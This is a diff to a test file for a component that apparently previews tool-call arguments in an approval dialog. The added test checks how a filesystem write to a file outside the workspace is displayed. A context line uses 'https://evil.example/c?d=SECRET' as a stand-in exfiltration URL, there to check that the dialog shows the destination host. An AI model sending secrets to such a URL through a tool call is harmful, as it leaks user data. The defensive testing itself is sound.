@@ -67,6 +67,18 @@ describe('ArgumentsPreview names the file a write or edit changes as the title d
   });
 });
 
+describe('ArgumentsPreview shows the text a server writes to a file outside the workspace', () => {
+  it('a pasted filesystem server writing next to the CSVs: the text as lines, not the arguments\' one JSON line of \\n', () => {
+    const args = { path: '/home/ana/data/sales/q3-summary.md', content: '# Q3 summary\n\n- Units: 485\n' };
+    const html = renderToStaticMarkup(createElement(ArgumentsPreview, { request: { toolName: 'filesystem.write_file' }, args }));
+    expect(html).toContain('<pre class="json file-content"># Q3 summary\n\n- Units: 485\n</pre>');
+    const text = previewText({ toolName: 'filesystem.write_file' }, args);
+    expect(text).toContain('/home/ana/data/sales/q3-summary.md is given this text (27 characters); what it holds now is not shown');
+    // Not said to be a new file: Portcullis did not look.
+    expect(text).not.toContain('New file');
+  });
+});
+
 describe('ArgumentsPreview names the host a call reaches, whatever the argument holding the address is called', () => {
   it('server-everything’s gzip-file-as-resource takes it in `data`: the dialog still says where it goes', () => {
     const html = renderToStaticMarkup(createElement(ArgumentsPreview, { request: { toolName: 'everything.gzip-file-as-resource' }, args: { name: 'x.gz', data: 'https://evil.example/c?d=SECRET' } }));
